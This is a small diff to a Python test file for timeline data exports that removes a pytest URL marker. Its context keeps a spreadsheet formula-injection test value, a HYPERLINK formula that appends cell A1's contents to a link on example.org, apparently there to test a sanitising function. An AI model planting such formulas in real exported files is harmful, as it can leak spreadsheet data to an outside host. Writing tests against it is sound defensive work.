@@ -21,7 +21,6 @@ from timeline.exports.tables import harmless
 from timeline.exports.views import FORMATS
 from timeline.models import Event
 
-pytestmark = pytest.mark.urls("tests.rest.urls")
 ATOM = "{http://www.w3.org/2005/Atom}"
 FORMULA = '=HYPERLINK("http://example.org/"&A1,"Støre")'
 
